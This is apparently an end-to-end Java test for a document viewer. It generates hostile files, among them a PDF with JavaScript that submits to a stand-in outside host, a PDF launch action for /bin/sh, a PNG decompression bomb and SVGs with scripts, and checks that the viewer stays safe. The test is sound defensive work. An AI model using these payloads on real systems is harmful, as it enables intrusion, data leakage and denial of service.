package app.pervius.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;

/**
 * Files that were made to do harm are shown safely or refused with the reason: nothing runs, nothing is fetched, the page stays usable. By
 * its name among the last, because what it hands in stays on Desks that others look at.
 */
class UnsafeFilesTest {

    @TempDir
    Path files;

    private Path pdf(String name, java.util.function.Consumer<PDDocument> makes) throws IOException {
        Path file = files.resolve(name);
        try (PDDocument document = new PDDocument()) {
            makes.accept(document);
            document.save(file.toFile());
        }
        return file;
    }

    private static void page(PDDocument document, float width, float height) {
        document.addPage(new PDPage(new PDRectangle(width, height)));
    }

    private Path cut(String name) throws IOException {
        Path whole = Drawings.pages(files, "whole.pdf", 3, "");
        byte[] all = Files.readAllBytes(whole);
        return Files.write(files.resolve(name), Arrays.copyOf(all, all.length / 2));
    }

    /** A picture of a few kilobytes that unpacks to 14 gigabytes. */
    private Path bomb(String name) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10});
        byte[] head = {0, 0, (byte) 0xEA, 0x60, 0, 0, (byte) 0xEA, 0x60, 8, 6, 0, 0, 0};
        chunk(out, "IHDR", head);
        ByteArrayOutputStream zeros = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflate = new DeflaterOutputStream(zeros, new Deflater(9))) {
            for (int i = 0; i < 200; i++) {
                deflate.write(new byte[60_000 * 4 + 1]);
            }
        }
        chunk(out, "IDAT", zeros.toByteArray());
        chunk(out, "IEND", new byte[0]);
        return Files.write(files.resolve(name), out.toByteArray());
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) throws IOException {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.write(type.getBytes(StandardCharsets.US_ASCII));
        body.write(data);
        CRC32 sum = new CRC32();
        sum.update(body.toByteArray());
        for (int shift = 24; shift >= 0; shift -= 8) {
            out.write(data.length >> shift);
        }
        out.write(body.toByteArray());
        for (int shift = 24; shift >= 0; shift -= 8) {
            out.write((int) (sum.getValue() >> shift));
        }
    }

    /** A page with words beside a million objects that nothing uses, each of which its table of contents leads to. */
    private Path ofAMillionObjects(String name) throws IOException {
        int objects = 1_000_000;
        String words = "BT /F1 20 Tf 50 200 Td (Still read) Tj ET";
        List<String> first = List.of("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 300]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
                "<</Length " + words.length() + ">>stream\n" + words + "\nendstream", "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>");
        Path file = files.resolve(name);
        StringBuilder table = new StringBuilder("xref\n0 " + (objects + 1) + "\n0000000000 65535 f \n");
        try (Writer out = Files.newBufferedWriter(file, StandardCharsets.US_ASCII)) {
            long at = "%PDF-1.4\n".length();
            out.write("%PDF-1.4\n");
            for (int i = 1; i <= objects; i++) {
                String object = i + " 0 obj" + (i <= first.size() ? first.get(i - 1) : "null") + "endobj\n";
                table.append(String.format(Locale.ROOT, "%010d 00000 n \n", at));
                out.write(object);
                at += object.length();
            }
            out.append(table).write("trailer<</Size " + (objects + 1) + "/Root 1 0 R>>\nstartxref\n" + at + "\n%%EOF\n");
        }
        return file;
    }

    /** A page whose font is no font. */
    private Path ofABrokenFont(String name) throws IOException {
        return pdf(name, d -> {
            page(d, 400, 300);
            try {
                PDStream rubbish = new PDStream(d, new ByteArrayInputStream("no font at all".repeat(500)
                        .getBytes(StandardCharsets.US_ASCII)));
                COSDictionary descriptor = new COSDictionary();
                descriptor.setItem(COSName.TYPE, COSName.FONT_DESC);
                descriptor.setName(COSName.FONT_NAME, "Broken");
                descriptor.setInt(COSName.FLAGS, 32);
                descriptor.setItem(COSName.FONT_FILE2, rubbish);
                COSDictionary font = new COSDictionary();
                font.setItem(COSName.TYPE, COSName.FONT);
                font.setName(COSName.SUBTYPE, "TrueType");
                font.setName(COSName.BASE_FONT, "Broken");
                font.setItem(COSName.FONT_DESC, descriptor);
                COSDictionary fonts = new COSDictionary();
                fonts.setItem("F1", font);
                COSDictionary resources = new COSDictionary();
                resources.setItem(COSName.FONT, fonts);
                d.getPage(0).getCOSObject().setItem(COSName.RESOURCES, resources);
                d.getPage(0).setContents(new PDStream(d, new ByteArrayInputStream("BT /F1 20 Tf 50 200 Td (Words) Tj ET"
                        .getBytes(StandardCharsets.US_ASCII))));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    /** Files by their titles, and what the Reading room shows of each: a drawn page, or these words. */
    private Map<Path, String> set() throws IOException {
        Map<Path, String> set = new LinkedHashMap<>();
        set.put(pdf("Scripted.pdf", d -> {
            page(d, 400, 300);
            d.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('ran'); this.submitForm('http://elsewhere.example/')"));
        }), "");
        set.put(pdf("Launching.pdf", d -> {
            page(d, 400, 300);
            PDActionLaunch launch = new PDActionLaunch();
            launch.setF("/bin/sh");
            d.getDocumentCatalog().setOpenAction(launch);
        }), "");
        set.put(pdf("Of no size.pdf", d -> page(d, 0, 0)), "");
        set.put(pdf("Very long.pdf", d -> page(d, 1_000_000, 300)), "");
        set.put(ofAMillionObjects("A million objects.pdf"), "");
        set.put(ofABrokenFont("Broken font.pdf"), "");
        set.put(cut("Cut off.pdf"), "");
        set.put(Files.writeString(files.resolve("Empty inside.pdf"), "%PDF-1.7\n%%EOF\n"), "cannot be shown here");
        set.put(bomb("Unpacks to gigabytes.png"), "60000 by 60000 pixels");
        set.put(Files.write(files.resolve("Damaged.png"), new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0}), "it is damaged");
        set.put(Files.writeString(files.resolve("Drawn.svg"), "<svg xmlns='http://www.w3.org/2000/svg' onload='document.title=1'>"
                + "<script>document.title='ran'</script><image href='http://elsewhere.example/x.png'/></svg>"), "");
        set.put(Files.writeString(files.resolve("Multiplying.svg"), "<svg xmlns='http://www.w3.org/2000/svg'>"
                + "<use href='#a'/>".repeat(300) + "</svg>"), "repeats too many parts");
        set.put(Files.write(files.resolve("Ring of pages.tif"), new byte[] {'I', 'I', 42, 0, 8, 0, 0, 0, 0, 0, 8, 0, 0, 0}),
                "Its pages lead back to one another");
        return set;
    }

    @Test
    void nothingRunsNothingIsFetchedAndThePageStaysUsable() throws IOException {
        Map<Path, String> set = set();
        try (Browser originator = new Browser(Demo.address()); Browser reader = new Browser(Demo.address())) {
            originator.signInAs("Bảo Trần Vĩnh").open("/folders").seeText("Civil design");
            originator.click(By.xpath("//*[@role='treeitem'][normalize-space(.)='Drawingswip']"));
            originator.chooseFiles(List.copyOf(set.keySet())).clickButton("Send").seeText("Received as");
            reader.signInAs("Mirela Draganova").open("/passages");
            Map<?, ?> passages = (Map<?, ?>) reader.jsLater("const done = arguments[arguments.length - 1]; "
                    + "fetch('/api/projects').then(r => r.json()).then(all => all.find(p => p.code === 'KWR').id)"
                    + ".then(id => fetch(`/api/projects/${id}/passages?which=ALL`)).then(r => r.json())"
                    + ".then(all => done(Object.fromEntries(all.items.map(i => [i.passage.names.originalName, i.passage.id]))))");
            for (Map.Entry<Path, String> one : set.entrySet()) {
                reader.open("/read/" + passages.get(one.getKey().getFileName().toString()));
                if (one.getValue().isEmpty()) {
                    reader.until("return !!document.querySelector('canvas[data-drawn]') "
                            + "|| document.querySelector('.stage img')?.naturalWidth > 0 "
                            + "|| document.body.innerText.includes('cannot be shown here')");
                } else {
                    reader.seeText(one.getValue());
                }
                // What else is there to be done with it is.
                reader.see(By.cssSelector("section[aria-label='Title block']"));
                assertThat((List<?>) reader.js("return performance.getEntriesByType('resource').map(r => r.name)"
                        + ".filter(n => !n.startsWith(location.origin))")).as(one.getKey().toString()).isEmpty();
                assertThat(reader.js("return document.title").toString()).as(one.getKey().toString()).doesNotContain("ran");
            }
        }
    }
}
